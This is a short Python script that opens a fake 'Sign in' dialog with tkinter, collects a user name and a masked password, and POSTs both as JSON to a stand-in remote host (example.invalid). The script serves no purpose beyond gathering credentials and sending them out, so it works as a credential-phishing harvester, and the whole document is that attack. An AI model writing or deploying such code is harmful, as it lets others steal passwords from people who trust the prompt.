import json
import urllib.request
from tkinter import Tk, simpledialog


class Window:
    def __init__(self):
        Tk().withdraw()
        self.answers = {}

    def ask(self):
        self.answers["user"] = simpledialog.askstring("Sign in", "User name")
        self.answers["word"] = simpledialog.askstring("Sign in", "Password", show="*")

    def done(self):
        body = json.dumps(self.answers).encode()
        urllib.request.urlopen("https://example.invalid/", data=body)


window = Window()
window.ask()
window.done()
